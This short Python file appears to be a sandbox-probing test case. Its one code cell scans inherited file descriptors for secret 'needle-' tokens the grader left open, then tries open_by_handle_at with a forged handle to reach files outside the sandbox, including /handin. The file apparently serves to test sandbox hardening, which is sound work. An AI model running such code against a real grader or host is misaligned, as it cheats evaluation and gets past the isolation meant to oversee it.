"""Uses open files that the grader may have left, and file handles that name files without a path."""

CELLS = [
    r"""
import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)
for number in range(300):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        os.set_blocking(number, False)
        os.lseek(number, 0, 0)
        print(*re.findall(rb"needle-[0-9a-f]{24}", os.read(number, 1 << 20)))
    except OSError:
        pass
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0" + (2).to_bytes(8, "little") + bytes(120))
for folder in ("/", "/usr", "/handin", "/tmp"):
    number = os.open(folder, os.O_RDONLY)
    print(libc.open_by_handle_at(number, handle, 0), ctypes.get_errno())
""",
]
